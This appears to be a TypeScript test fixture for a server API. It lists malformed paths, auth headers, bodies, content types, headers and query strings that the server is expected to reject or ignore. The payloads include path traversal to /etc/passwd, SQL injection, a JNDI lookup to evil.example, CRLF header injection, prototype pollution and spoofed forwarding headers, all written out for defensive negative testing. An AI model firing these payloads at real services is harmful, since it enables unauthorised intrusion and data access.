import { basicAuthorization } from '../farm/test-worker.js';

/** Of nobody, but of the form that the farm uses. */
export const UUID = '0f2a4f9c-5d6e-4b0a-9f43-2f6c3a0d7c11';

/** What stands in an address instead of a UUID, a checksum, a size or a name of a list. */
export const WRONG_IN_PATH = [
  'not-a-uuid',
  `${UUID}%00`,
  '%00',
  '..',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%5c..%5cwindows%5cwin.ini',
  '%252e%252e%252f',
  `urn:uuid:${UUID}`,
  `{${UUID}}`,
  `${UUID}%0d%0aSet-Cookie:a=b`,
  'a'.repeat(400),
  'a'.repeat(4000),
  '%F0%9F%92%A9',
  '%zz',
  '%',
  '%C0%AF',
  '%ff',
  '__proto__',
  'constructor',
  "'%20OR%201=1--",
  '%24%7Bjndi:ldap:%2f%2fevil.example%7D',
  '-1',
  '1.5',
  '1e400',
  'Infinity',
];

/** What is no credentials of a Worker. */
export const WRONG_AUTHORIZATIONS = [
  'Basic',
  'Basic ',
  'Basic !!!!',
  'Basic OnNlY3JldA==',
  `Basic ${Buffer.from('no colon').toString('base64')}`,
  `Basic ${Buffer.from('\0:\0').toString('base64')}`,
  `Basic ${Buffer.from([0xff, 0xfe, 0x3a, 0xff]).toString('base64')}`,
  `Basic ${'QUFB'.repeat(2000)}`,
  basicAuthorization("' OR 1=1 --", 'x'),
  basicAuthorization('__proto__', 'x'),
  basicAuthorization(UUID, 'secret'),
  'Bearer abc',
  'Digest username="a"',
  '',
];

/** Bodies that are not JSON. */
export const NO_JSON = [
  '{',
  '{"name":',
  "{'name':'x'}",
  '{"a":1}{"b":2}',
  'NaN',
  '<?xml version="1.0"?><a/>',
  'a=b&c=d',
  '\0',
  '[1,]',
];

/** Types under which nobody reads JSON. */
export const NOT_JSON_TYPES = [
  '',
  'text/plain',
  'text/plain; charset=utf-8, application/json',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'image/png',
  'nonsense',
  '/',
];

/** What should change nothing. */
export const TRICKY_HEADERS: readonly Record<string, string>[] = [
  {
    'X-Forwarded-Host': 'evil.example',
    'X-Forwarded-Proto': 'https',
    'X-Forwarded-For': '1.2.3.4, evil.example',
  },
  { 'X-Forwarded-Prefix': '/evil.example/"><script>' },
  { Forwarded: 'for=evil.example;host=evil.example;proto=https' },
  { 'X-HTTP-Method-Override': 'DELETE', 'X-Method-Override': 'DELETE', 'X-HTTP-Method': 'DELETE' },
  { 'X-Original-URL': '/api/v3/configuration/file', 'X-Rewrite-URL': '/evil.example' },
  { Accept: 'application/xml;q=0, */*;q=0' },
  { Accept: `${'text/html;q=0.1,'.repeat(500)}evil.example` },
  { 'Accept-Encoding': 'gzip, deflate, br, zstd, evil.example' },
  { Range: 'bytes=0-0,1-1,999999999999-,-5' },
  { 'If-Modified-Since': 'not a date', 'If-None-Match': '*'.repeat(1000) },
  { Expect: '100-continue' },
  { Cookie: 'a=b; __proto__=c' },
  { Upgrade: 'h2c', Connection: 'Upgrade, HTTP2-Settings', 'HTTP2-Settings': 'AAMAAABkAAQ' },
  { Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'AAAA', 'Sec-WebSocket-Version': '13' },
];

/** What should change nothing, in a query. */
export const TRICKY_QUERIES = [
  '__proto__[polluted]=1&constructor[prototype][polluted]=1',
  'a[]=1&a[]=2&a=3',
  '%00=%00&%zz=%',
  '='.repeat(500),
  `x=${'y'.repeat(8000)}`,
  '&&&&==&',
  '%C0%AF=%F0%9F%92%A9',
];
